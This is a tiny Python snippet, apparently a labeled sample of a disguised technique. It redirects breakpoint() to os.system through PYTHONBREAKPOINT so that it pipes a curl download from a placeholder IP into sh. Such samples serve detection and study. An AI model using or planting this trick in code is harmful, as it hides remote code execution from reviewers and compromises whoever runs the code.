# Disguised: PYTHONBREAKPOINT names the function breakpoint() calls.
import os

os.environ["PYTHONBREAKPOINT"] = "os.system"
breakpoint("curl -s http://203.0.113.9/install.sh | sh")
